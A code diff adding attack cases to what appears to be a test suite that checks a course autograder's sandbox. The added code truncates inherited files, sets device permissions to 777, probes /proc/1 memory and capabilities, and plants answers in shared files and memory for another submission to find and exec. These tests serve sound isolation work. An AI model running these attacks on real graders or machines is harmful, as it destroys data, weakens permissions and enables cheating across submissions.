@@ -15,7 +15,7 @@ import tarfile
 import zipfile
 from typing import Any
 
-from .assignment import NAME, NOTHING
+from .assignment import ALL, NAME, NOTHING
 from .handin import HandIn, attack, case
 
 # --- reading --------------------------------------------------------------------------------------------------------------------
@@ -136,6 +136,123 @@ def descriptors_inherited():
             print(open(f"{root}{COURSE}/.course-secret").read())
         except OSError:
             pass
+
+
+@attack()
+def files_inherited():
+    """Write to every inherited file: who is graded next inherits it too."""
+    for number in range(256):
+        try:
+            target = os.readlink(f"/proc/self/fd/{number}")
+            if target.startswith("/") and target != "/dev/null":
+                os.ftruncate(number, 0)
+                reached(target)
+        except OSError:
+            pass
+
+
+@attack()
+def devices_dated():
+    """Set the date and the mode of the machine's devices, which whoever comes next can read."""
+    for name in os.listdir("/dev"):
+        path = f"/dev/{name}"
+        if not os.path.isdir(path) and not os.path.islink(path):
+            for change in lambda: os.utime(path), lambda: os.chmod(path, 0o777):
+                try:
+                    change()
+                    reached(path)
+                except OSError:
+                    pass
+
+
+@attack()
+def first_process_opened():
+    """Open the memory, the files and the environment of the first process, which is a copy of the one that waits for all students."""
+    for name in "mem", "environ", "maps", "fd", "cwd", "root":
+        try:
+            os.close(os.open(f"/proc/1/{name}", os.O_RDONLY))
+            reached(f"/proc/1/{name}")
+        except OSError:
+            pass
+
+
+@attack()
+def capabilities_kept():
+    """Find capabilities, or room for some, in any of the sets of this process or of the first."""
+    for pid in 1, os.getpid():
+        for line in open(f"/proc/{pid}/status"):
+            if line.startswith("Cap") and int(line.split()[1], 16):
+                reached(line)
+
+
+# What two friends leave, strangers look for, all in one batch: whichever worker it is that a stranger gets, a friend was there.
+LEAVE = """
+import multiprocessing.shared_memory, os
+answers = "#BEGIN#" + "\n\n\n".join(cell for cell in In if "import os" not in cell) + "#END#"
+for number in range(256):
+    try:
+        if os.readlink(f"/proc/self/fd/{number}").startswith("/"):
+            os.lseek(number, 0, 0), os.write(number, answers.encode())
+    except OSError:
+        pass
+for place in os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/dev/pts", "/run":
+    try:
+        with open(f"{place}/left-by-a-friend", "w") as file:
+            file.write(answers)
+    except OSError:
+        pass
+try:
+    memory = multiprocessing.shared_memory.SharedMemory("left-by-a-friend-too", True, len(answers))
+    memory.buf[: len(answers)] = answers.encode()
+except OSError:
+    pass
+"""
+LOOK = """
+import multiprocessing.shared_memory, os
+found = []
+for number in range(256):
+    try:
+        found.append(os.pread(number, 1 << 20, 0).decode("latin-1"))
+    except OSError:
+        pass
+for place in os.getcwd(), os.path.expanduser("~"), "/tmp", "/var/tmp", "/dev/shm", "/dev/pts", "/run":
+    try:
+        found.append(open(f"{place}/left-by-a-friend").read())
+    except OSError:
+        pass
+try:
+    found.append(bytes(multiprocessing.shared_memory.SharedMemory("left-by-a-friend-too").buf).decode())
+except OSError:
+    pass
+for text in found:
+    if "#BEGIN#" in text and "#END#" in text:
+        reached("what a friend has left")
+        exec(text.split("#BEGIN#")[1].split("#END#")[0], globals())
+"""
+
+
+@case(ALL)
+def friend_leaves_answers(hand: HandIn) -> None:
+    """Leave the right answers in every file, folder and memory that can be written to."""
+    hand.right().extra(LEAVE)
+
+
+@case(ALL)
+def friend_leaves_answers_too(hand: HandIn) -> None:
+    """Leave them in another worker."""
+    hand.right().extra(LEAVE)
+
+
+@case(NOTHING)
+def stranger_runs_what_was_left(hand: HandIn) -> None:
+    """Answer wrongly, and run whatever a friend has left."""
+    hand.wrong(LOOK)
+
+
+@case(NOTHING)
+def stranger_runs_what_was_left_too(hand: HandIn) -> None:
+    """Do so in another worker."""
+    hand.wrong(LOOK)
 
 
 @attack()
